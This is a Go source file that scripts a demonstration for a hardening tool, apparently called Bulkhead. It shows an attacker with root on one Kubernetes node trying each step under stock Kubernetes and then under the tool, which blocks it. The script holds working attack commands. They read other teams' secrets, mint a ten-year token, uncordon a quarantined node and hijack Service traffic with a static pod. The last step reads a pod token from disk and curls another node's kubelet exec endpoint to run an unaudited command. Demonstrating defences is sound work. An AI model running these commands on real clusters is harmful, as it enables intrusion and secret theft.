// Copyright The Bulkhead Authors
// SPDX-License-Identifier: Apache-2.0

package main

import "regexp"

const (
	inTree   = "in-tree"
	hardened = "hardened"
)

// intro is shown before the first step.
var intro = []string{
	"An attacker has root on one node, " + worker + ". So the attacker has the kubelet's client " +
		"certificate, and the tokens of the pods there. What can the attacker do with them?",
	"Act 1 shows Kubernetes alone (profile in-tree). Act 2 shows the same cluster with Bulkhead " +
		"(profile hardened). Every command is run, and every answer is real.",
	"The pods of one team, demo-shop, run on " + worker + ". Those of demo-payments run on the other " +
		"node. attacker$ is a shell on " + worker + ", with the kubelet's kubeconfig. admin$ has the " +
		"administrator's.",
}

// story returns the steps. The pods and secrets that they name are in objects.yaml.
func story() []step {
	return []step{whoAmI(), ownSecret(), endedPod(), forgottenGrant(), longToken(), uncordon(), traffic(), shell()}
}

func whoAmI() step {
	return step{
		title:    "Who am I?",
		words:    "The API server takes the attacker for the kubelet.",
		commands: []command{asKubelet(`kubectl auth whoami | head -3 | tr -s ' '`)},
		proof:    regexp.MustCompile(`Username +system:node:` + worker),
		inTree:   allowed, hardened: allowed,
		meaning: "No authorizer can tell the two apart.",
	}
}

func ownSecret() step {
	return step{
		title:    "The secret of a pod on this node",
		words:    "The pod shop runs here. Its kubelet must read its secret, so the attacker can, too.",
		commands: []command{asKubelet(readSecret("shop-password"))},
		proof:    regexp.MustCompile(`open-sesame`),
		inTree:   allowed, hardened: allowed,
		meaning: "It must be: the pod cannot start without it.",
	}
}

func endedPod() step {
	return step{
		title:    "The secret of a pod that has ended",
		words:    "A job on this node is done. Its pod stays for days, and no kubelet needs its secret again.",
		commands: []command{asKubelet(readSecret("old-password")).until("", "NA-POD-6")},
		proof:    regexp.MustCompile(`still-valid`),
		inTree:   allowed, hardened: deniedBy("NA-POD-6"),
		meaning: "The secret is readable until the pod is deleted.",
	}
}

func readSecret(name string) string {
	return `kubectl get secret ` + name + ` -n demo-shop \
  -o jsonpath='{.data.password}' | base64 -d`
}

func forgottenGrant() step {
	return step{
		title: "All secrets of another team",
		words: "Long ago, an administrator let all nodes read the secrets of demo-payments, and " +
			"forgot it. No pod of demo-payments runs on this node.",
		commands: []command{
			asAdmin(`kubectl describe rolebinding forgotten -n demo-payments | tail -4`),
			asKubelet(`kubectl get secrets -n demo-payments`),
		},
		proof:  regexp.MustCompile(`card-key +Opaque`),
		inTree: allowed, hardened: deniedBy("NA-SECRET-2"),
		meaning: "The Node authorizer abstains, and RBAC allows it.",
	}
}

func longToken() step {
	return step{
		title: "A token for ten years",
		words: "A kubelet requests tokens for its pods, an hour each. The attacker asks for more.",
		commands: []command{asKubelet(`uid=$(kubectl get pod shop -n demo-shop -o jsonpath={.metadata.uid})
kubectl create token shop -n demo-shop --bound-object-kind=Pod \
  --bound-object-name=shop --bound-object-uid=$uid --duration=87600h \
  -o jsonpath={.status.expirationTimestamp}`)},
		proof:  regexp.MustCompile(`(?m)^20\d\d-\d\d-\d\dT`),
		inTree: allowed, hardened: deniedBy("NR-SA-6"),
		meaning: "The token expires on this date.",
	}
}

func uncordon() step {
	return step{
		title: "Out of quarantine",
		words: "The administrator does not trust the node any more, and cordons it. The attacker wants new pods.",
		commands: []command{
			asAdmin(`kubectl cordon ` + worker),
			asKubelet(`kubectl uncordon ` + worker),
			asAdmin(`kubectl get node ` + worker),
		},
		undo:   undo{admin: `kubectl uncordon ` + worker},
		proof:  regexp.MustCompile(`(?m)^` + worker + ` +Ready +<none>`),
		inTree: allowed, hardened: deniedBy("NR-CORDON-1"),
		meaning: "The scheduler sends new pods here again.",
	}
}

func traffic() step {
	return step{
		title: "The traffic of another team",
		words: "payments.yaml is a static pod with the label app=payments. The kubelet starts it, and " +
			"shows it in the API as a mirror pod. The Service payments selects this label.",
		commands: []command{
			asKubelet(`cp payments.yaml /etc/kubernetes/manifests/`),
			asKubelet(`journalctl -u kubelet --since=-30s -o cat \
  -g 'creating a mirror pod' | head -2 | cut -d] -f2-`).until("mirror pod", "NR-MIRROR-1"),
			asAdmin(`kubectl get endpointslices -n demo-payments \
  -o jsonpath='{.items[*].endpoints[*].nodeName}'`).until(worker, ""),
		},
		undo:   undo{worker: `rm -f /etc/kubernetes/manifests/payments.yaml`},
		proof:  regexp.MustCompile(`(?m)^` + controlPlane + ` ` + worker + `$|^` + worker + ` ` + controlPlane + `$`),
		inTree: allowed, hardened: deniedBy("NR-MIRROR-1"),
		meaning: "Half of the Service's traffic now comes to this node.",
	}
}

func shell() step {
	return step{
		title: "A shell on the other node",
		words: "A metrics agent runs here. It may get nodes/proxy, as in many charts. A WebSocket " +
			"begins with GET, so its token opens the kubelet's port of the other node.",
		commands: []command{asKubelet(`token=$(cat /var/lib/kubelet/pods/*/volumes/*/metrics-token/token)
exec=https://` + controlPlane + `:10250/exec/demo-payments/payments
curl -sk --http1.1 -H "Authorization: Bearer $token" \
  -H "Connection: Upgrade" -H "Upgrade: websocket" \
  -H "Sec-WebSocket-Version: 13" -H "Sec-WebSocket-Key: $(date | base64)" \
  "$exec/payments?output=1&command=cat&command=/key/key"`)},
		proof:  regexp.MustCompile(`the-key-of-all-cards`),
		inTree: allowed, hardened: deniedBy("KA-EXEC-1"),
		meaning: "The command has run in the pod, and no audit log has it.",
	}
}
